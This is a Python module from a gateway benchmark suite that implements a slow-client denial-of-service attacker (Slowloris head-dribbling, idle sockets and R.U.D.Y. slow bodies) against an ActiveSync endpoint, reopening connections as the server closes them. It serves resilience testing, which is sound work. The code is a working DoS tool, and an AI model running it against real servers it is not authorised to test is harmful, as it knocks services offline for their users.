"""The slow-client attacker: ``python -m bench.slowloris``, driven over stdin/stdout.

Approach. One asyncio process keeps ``connections`` sockets open against the
gateway at all times, each one of three kinds (round-robin):

* ``head``: sends a request head one byte every ``interval`` seconds (Slowloris);
* ``idle``: connects and sends nothing;
* ``body``: sends a complete head announcing a 10 MB body, then one body byte
  every ``interval`` seconds (R.U.D.Y.).

The attacker must cost little CPU, or on a shared 2-core machine it would
measure itself: each connection is a bare ``asyncio.Protocol`` (no task, no
stream), and one ticker writes the next byte to every slow connection once per
``interval``. When the gateway closes a connection, ``connection_lost`` counts
it by kind and a replacement is opened, so the pressure never lets up; a
connect that fails (refused at the cap, or the listener not answering) is
counted and retried. Connections are opened ``batch`` at a time. Events on
stdout: ``ready`` once every slot has been opened (with the number open at
that moment and how long the ramp took), and on ``stop`` a ``result`` with
the counters.
"""

from __future__ import annotations

import asyncio
import time
from collections import Counter
from typing import Any

from bench.httpclient import client_ssl_context
from bench.loadgen import Channel
from bench.proc import raise_nofile

__all__ = ["main"]

KINDS = ("head", "idle", "body")
HEAD = (
    "POST /Microsoft-Server-ActiveSync?Cmd=Sync&User=user{n:06d}&DeviceId=SLOW{n:08d}"
    "&DeviceType=Attack HTTP/1.1\r\nHost: gateway\r\nMS-ASProtocolVersion: 16.1\r\n"
    "Content-Type: application/vnd.ms-sync.wbxml\r\nContent-Length: 10000000\r\n\r\n"
)


class _Slow(asyncio.Protocol):
    def __init__(self, attack: Attack, slot: int) -> None:
        self.attack, self.slot = attack, slot
        self.kind = KINDS[slot % len(KINDS)]
        self.head = HEAD.format(n=slot).encode()
        self.sent = 0
        self.transport: asyncio.Transport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self.transport = transport
        if self.kind == "body":
            transport.write(self.head)

    def tick(self) -> None:
        """Write the next slow byte (head: of the head; body: of the body)."""
        if self.transport is None or self.transport.is_closing() or self.kind == "idle":
            return
        if self.kind == "head":
            if self.sent < len(self.head):
                self.transport.write(self.head[self.sent : self.sent + 1])
        else:
            self.transport.write(b"x")
        self.sent += 1

    def data_received(self, data: bytes) -> None:
        pass  # a 408 or an error answer: the close follows

    def connection_lost(self, exc: BaseException | None) -> None:
        self.transport = None
        self.attack.lost(self)


class Attack:
    def __init__(self, job: dict[str, Any]) -> None:
        self.job = job
        self.n = int(job["connections"])
        self.tls = client_ssl_context() if job.get("tls") else None
        self.loop = asyncio.get_running_loop()
        self.live: dict[int, _Slow] = {}
        self.ever: set[int] = set()
        self.peak = 0
        self.opened: Counter[str] = Counter()
        self.closed_by_server: Counter[str] = Counter()
        self.connect_failures: Counter[str] = Counter()
        self.ready = asyncio.Event()
        self.stopping = False
        self._tasks: set[asyncio.Task[None]] = set()

    async def open(self, slot: int) -> None:
        while not self.stopping:
            try:
                _, proto = await self.loop.create_connection(
                    lambda: _Slow(self, slot), self.job["host"], int(self.job["port"]),
                    ssl=self.tls, server_hostname="localhost" if self.tls else None,
                )  # fmt: skip
            except (OSError, TimeoutError) as exc:
                self.connect_failures[type(exc).__name__] += 1
                await asyncio.sleep(0.5)
                continue
            self.live[slot] = proto
            self.opened[proto.kind] += 1
            self.peak = max(self.peak, len(self.live))
            self.ever.add(slot)
            if len(self.ever) >= self.n:
                self.ready.set()
            return

    def lost(self, proto: _Slow) -> None:
        if self.live.get(proto.slot) is proto:
            del self.live[proto.slot]
        if self.stopping:
            return
        self.closed_by_server[proto.kind] += 1
        task = self.loop.create_task(self.open(proto.slot))  # reopen at once
        self._tasks.add(task)
        task.add_done_callback(self._tasks.discard)

    async def ticker(self) -> None:
        interval = float(self.job.get("interval", 1.0))
        while not self.stopping:
            for proto in list(self.live.values()):
                proto.tick()
            await asyncio.sleep(interval)

    async def ramp(self) -> None:
        batch = int(self.job.get("batch", 200))
        for first in range(0, self.n, batch):
            await asyncio.gather(*(self.open(s) for s in range(first, min(first + batch, self.n))))

    def stop(self) -> None:
        self.stopping = True
        for proto in list(self.live.values()):
            if proto.transport is not None:
                proto.transport.abort()

    def result(self) -> dict[str, Any]:
        return {
            "open": len(self.live),
            "peak_open": self.peak,
            "opened": dict(self.opened),
            "closed_by_server": dict(self.closed_by_server),
            "connect_failures": dict(self.connect_failures),
        }


async def run(job: dict[str, Any], chan: Channel) -> None:
    attack = Attack(job)
    started = time.monotonic()
    ticker = asyncio.ensure_future(attack.ticker())
    await attack.ramp()
    async with asyncio.timeout(float(job.get("ready_timeout", 120))):
        await attack.ready.wait()
    chan.emit("ready", seconds=time.monotonic() - started, **attack.result())
    await chan.expect("stop")
    chan.emit("result", **attack.result())
    attack.stop()
    ticker.cancel()
    await asyncio.gather(ticker, return_exceptions=True)


async def _main() -> None:
    chan = Channel(asyncio.get_running_loop())
    job = (await chan.queue.get())["job"]
    try:
        await run(job, chan)
    except Exception as exc:  # reported to the bench, which stops the run
        chan.emit("error", message=f"{type(exc).__name__}: {exc}")


def main() -> None:
    raise_nofile()
    asyncio.run(_main())


if __name__ == "__main__":
    main()
